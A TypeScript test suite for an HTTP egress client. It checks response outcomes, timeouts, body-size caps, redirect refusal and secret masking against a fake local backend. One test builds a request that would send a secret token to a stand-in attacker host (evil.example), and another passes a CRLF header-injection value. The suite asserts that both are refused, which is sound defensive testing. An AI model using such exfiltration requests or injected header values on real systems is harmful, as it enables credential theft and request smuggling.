import { Egress, EgressRequest } from '@app/egress';
import { FakeBackend } from '../../support/fake-backend';
import { RecordingLog, testSettings } from './egress-settings';

describe('Egress outcomes against a real HTTP backend', () => {
  let backend: FakeBackend;
  let egress: Egress;
  let log: RecordingLog;

  beforeAll(async () => {
    backend = await FakeBackend.start();
  });
  afterAll(() => backend.stop());
  beforeEach(() => {
    log = new RecordingLog();
    egress = new Egress(testSettings(), { log });
  });
  afterEach(() => egress.close());

  const get = (path: string, extra: Partial<EgressRequest> = {}): Promise<unknown> =>
    egress.send({
      method: 'GET',
      url: backend.url(path),
      timeoutMs: 2000,
      deadline: Date.now() + 4000,
      ...extra,
    });

  it('answers ok with the parsed JSON of a 2xx', async () => {
    expect(await get('/json')).toEqual({
      kind: 'ok',
      status: 200,
      body: { ok: true },
      reason: 'status 200',
    });
  });

  it('sends a JSON body and a form body with their content types', async () => {
    expect(await get('/echo', { method: 'POST', body: { json: { a: [1] } } })).toMatchObject({
      kind: 'ok',
      body: { method: 'POST', type: 'application/json', body: '{"a":[1]}' },
    });
    expect(
      await get('/echo', { method: 'PUT', body: { form: { q: 'a b', n: '1' } } }),
    ).toMatchObject({
      kind: 'ok',
      body: { method: 'PUT', type: 'application/x-www-form-urlencoded', body: 'q=a+b&n=1' },
    });
  });

  it('answers text when text is expected, and bad_body when JSON was and is not', async () => {
    expect(await get('/text', { expect: 'text' })).toMatchObject({
      kind: 'ok',
      body: 'plain words',
    });
    expect(await get('/text')).toMatchObject({ kind: 'bad_body', status: 200 });
    expect(await get('/malformed')).toMatchObject({
      kind: 'bad_body',
      reason: 'status 200, the body is not JSON',
    });
  });

  it('answers http_error with the status and body of a 4xx or 5xx', async () => {
    expect(await get('/status/404')).toEqual({
      kind: 'http_error',
      status: 404,
      body: { error: 'status' },
      reason: 'status 404',
    });
    expect(await get('/status/503')).toMatchObject({ kind: 'http_error', status: 503 });
  });

  it('does not follow a redirect, even to an address that is allowed', async () => {
    const target = await FakeBackend.start('127.0.0.1');
    try {
      const to = encodeURIComponent(target.url('/json'));
      expect(await get(`/redirect?to=${to}`)).toMatchObject({ kind: 'http_error', status: 302 });
      expect(target.requests).toEqual([]);
    } finally {
      await target.stop();
    }
  });

  it('answers network_error for a refused connection and for a name that does not resolve', async () => {
    const closed = await FakeBackend.start();
    const url = closed.url('/json');
    await closed.stop();
    expect(
      await egress.send({ method: 'GET', url, timeoutMs: 2000, deadline: Date.now() + 4000 }),
    ).toMatchObject({ kind: 'network_error', reason: expect.stringContaining('ECONNREFUSED') });

    const unresolved = new Egress(testSettings(), {
      resolver: (host, _options, callback) =>
        callback(
          Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' }),
          [],
        ),
    });
    try {
      expect(
        await unresolved.send({
          method: 'GET',
          url: `http://nowhere.backend.test:${backend.port}/json`,
          timeoutMs: 2000,
          deadline: Date.now() + 4000,
        }),
      ).toMatchObject({ kind: 'network_error', reason: expect.stringContaining('ENOTFOUND') });
    } finally {
      await unresolved.close();
    }
  });

  it('answers timeout when the backend does not answer within the timeout', async () => {
    const started = Date.now();
    expect(await get('/hang', { timeoutMs: 200 })).toMatchObject({ kind: 'timeout' });
    const took = Date.now() - started;
    expect(took).toBeGreaterThanOrEqual(190);
    expect(took).toBeLessThan(1000);
  });

  it('gives the request the time left before the deadline less the margin when that is shorter', async () => {
    const started = Date.now();
    // Author's 2000 ms, but the turn ends in 400 ms and 100 ms are kept for the commit.
    expect(await get('/hang', { deadline: started + 400 })).toMatchObject({ kind: 'timeout' });
    const took = Date.now() - started;
    expect(took).toBeGreaterThanOrEqual(290);
    expect(took).toBeLessThan(1000);
  });

  it('fails as timeout at once, unsent, when too little time is left', async () => {
    const before = backend.requests.length;
    const started = Date.now();
    expect(await get('/json', { deadline: started + 110 })).toEqual({
      kind: 'timeout',
      reason: 'too little time left before the deadline to send',
    });
    expect(Date.now() - started).toBeLessThan(100);
    expect(backend.requests.length).toBe(before);
  });

  it('stops reading a 100 MB body at the cap and answers bad_body', async () => {
    backend.hugeBytesWritten = 0;
    expect(await get('/huge?mb=100')).toMatchObject({
      kind: 'bad_body',
      reason: 'status 200, the body is over 1048576 bytes',
    });
    // What the server got out before the connection closed: the cap plus socket buffers.
    await new Promise((resolve) => setImmediate(resolve));
    expect(backend.hugeBytesWritten).toBeLessThan(16 * 1024 * 1024);
  });

  it('answers bad_body at once for a declared length over the cap', async () => {
    const started = Date.now();
    expect(await get('/huge-declared')).toMatchObject({ kind: 'bad_body' });
    expect(Date.now() - started).toBeLessThan(500);
  });

  it('ends a chunked body that never ends: bad_body past the cap, timeout before it', async () => {
    const small = new Egress(testSettings({ maxResponseBytes: 16 * 1024 }));
    try {
      expect(
        await small.send({
          method: 'GET',
          url: backend.url('/endless'),
          timeoutMs: 3000,
          deadline: Date.now() + 4000,
        }),
      ).toMatchObject({ kind: 'bad_body' });
    } finally {
      await small.close();
    }
    expect(await get('/endless', { timeoutMs: 200 })).toMatchObject({ kind: 'timeout' });
  });

  it('refuses a malformed request unsent, without blaming the host', async () => {
    const before = backend.requests.length;
    expect(await get('/json', { headers: { 'x-token': 'a\r\nx-injected: 1' } })).toEqual({
      kind: 'refused',
      reason: 'not a valid request: invalid x-token header',
    });
    expect(backend.requests.length).toBe(before);
  });

  it('leaves no timer behind per request: timers do not grow with the requests made', async () => {
    const timers = (): number =>
      process.getActiveResourcesInfo().filter((r) => r === 'Timeout').length;
    const batch = async (size: number): Promise<number> => {
      const outcomes = await Promise.all([
        ...Array.from({ length: size }, () => get('/json')),
        ...Array.from({ length: size / 5 }, () => get('/hang', { timeoutMs: 50 })),
        ...Array.from({ length: size / 5 }, () => get('/status/404')),
      ]);
      expect(new Set(outcomes.map((o) => (o as { kind: string }).kind))).toEqual(
        new Set(['ok', 'timeout', 'http_error']),
      );
      return timers();
    };
    const before = timers();
    // At most one more: undici's coarse clock, one timer shared by all its requests, which
    // comes and goes.
    expect(await batch(10)).toBeLessThanOrEqual(before + 1);
    expect(await batch(100)).toBeLessThanOrEqual(before + 1);
  });

  it('masks secrets in reasons and logs, and logs neither bodies nor paths', async () => {
    const secret = 'sk-very-secret-token';
    const outcome = await egress.send({
      method: 'POST',
      url: `http://${secret}.evil.example/json?key=${secret}`,
      body: { json: { token: secret } },
      timeoutMs: 1000,
      deadline: Date.now() + 2000,
      secrets: [secret],
    });
    expect(outcome).toEqual({
      kind: 'refused',
      reason: '[secret].evil.example is not in EGRESS_ALLOWED_HOSTS',
    });

    await get(`/echo?key=${secret}`, {
      method: 'POST',
      body: { json: { token: secret } },
      secrets: [secret],
    });
    const logged = JSON.stringify(log.lines);
    expect(log.lines).toHaveLength(2);
    expect(logged).not.toContain(secret);
    expect(logged).not.toContain('/echo');
    expect(logged).not.toContain('token');
  });
});
